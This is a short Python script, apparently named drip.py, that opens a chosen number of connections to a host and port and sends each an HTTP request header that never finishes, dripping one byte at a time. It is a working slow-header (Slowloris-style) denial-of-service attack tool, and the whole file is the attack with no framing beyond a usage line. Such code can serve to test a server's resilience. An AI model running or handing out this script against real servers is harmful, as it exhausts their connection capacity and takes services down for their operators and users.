"""drip.py HOST PORT COUNT SECONDS: that many requests at once whose heads come byte by byte and never end."""

import contextlib
import socket
import sys
import time

streams = []
for _ in range(int(sys.argv[3])):
    stream = socket.create_connection((sys.argv[1], int(sys.argv[2])), 5)
    stream.sendall(b"GET / HTTP/1.1\r\nhost: web\r\nx: ")
    streams.append(stream)
end = time.monotonic() + float(sys.argv[4])
while time.monotonic() < end:
    for stream in streams:
        with contextlib.suppress(OSError):
            stream.send(b"y")
    time.sleep(0.3)
